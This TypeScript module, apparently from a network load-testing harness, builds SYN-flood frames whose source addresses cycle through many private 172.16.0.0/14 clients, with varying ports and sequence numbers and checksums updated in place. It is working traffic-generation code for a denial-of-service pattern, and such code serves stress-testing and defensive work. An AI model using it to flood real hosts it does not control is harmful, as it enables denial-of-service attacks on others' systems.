/**
 * The frames of a SYN flood: each from the next of many client addresses. After the last the first comes again from another port,
 * so that none repeats an earlier one.
 *
 * @module
 */
import { rawPort } from "../../../lib/packet/address.ts";
import { tcpFrame } from "../../../lib/packet/build.ts";
import { updateChecksum, wordDelta } from "../../../lib/packet/checksum.ts";
import { type Memory, swap32 } from "../../../lib/packet/memory.ts";
import { SYN } from "../../../lib/packet/tcp.ts";

/** Route to all clients of a flood, of RFC 1918: the first of them is 172.16.0.1, and there may be 262,142. */
export const FLOOD_PREFIX = "172.16.0.0/14";
const FIRST_CLIENT = 0xac100001;
const FIRST_PORT = 1024;
/** Odd: as many SYNs in a row have different sequence numbers as there are (Knuth's multiplicative hash). */
const SEQUENCE_STEP = 0x9e3779b1;
/** Maximum segment size 1460 (RFC 9293, section 3.2): every client says something of the kind. */
const OPTIONS = Uint8Array.of(2, 4, 5, 180);

/** Offsets in a frame. */
const SOURCE_ADDRESS = 26;
const IP_SUM = 24;
const SOURCE_PORT = 34;
const SEQUENCE = 38;
const TCP_SUM = 50;

export interface FloodTarget {
  /** Where frames to it go. */
  mac: string;
  address: string;
  port: number;
}

export class Syns {
  /** Of each frame. */
  readonly bytes: number;
  readonly #template: Uint8Array;
  readonly #clients: number;

  /** `source`: hardware address of the sender. */
  constructor(source: string, target: FloodTarget, clients: number) {
    this.#clients = clients;
    this.#template = tcpFrame({
      ethernet: { source, destination: target.mac },
      ipv4: { source: "0.0.0.0", destination: target.address, dontFragment: true },
      tcp: { sourcePort: 0, destinationPort: target.port, flags: SYN, options: OPTIONS },
    });
    this.bytes = this.#template.length;
  }

  /** Writes SYN `number` at offset `at`, which is 2 modulo 4. */
  write(memory: Memory, at: number, number: number) {
    const { bytes, halves, words } = memory;
    bytes.set(this.#template, at);
    const address = swap32((FIRST_CLIENT + number % this.#clients) | 0);
    const port = rawPort(FIRST_PORT + Math.floor(number / this.#clients));
    const sequence = Math.imul(number, SEQUENCE_STEP);
    words[(at + SOURCE_ADDRESS) >> 2] = address;
    halves[(at + SOURCE_PORT) >> 1] = port;
    words[(at + SEQUENCE) >> 2] = sequence;
    const addressDelta = wordDelta(0, address);
    const ipSum = (at + IP_SUM) >> 1;
    const tcpSum = (at + TCP_SUM) >> 1;
    halves[ipSum] = updateChecksum(halves[ipSum]!, addressDelta);
    const delta = addressDelta + port + wordDelta(0, sequence);
    halves[tcpSum] = updateChecksum(halves[tcpSum]!, delta);
  }
}
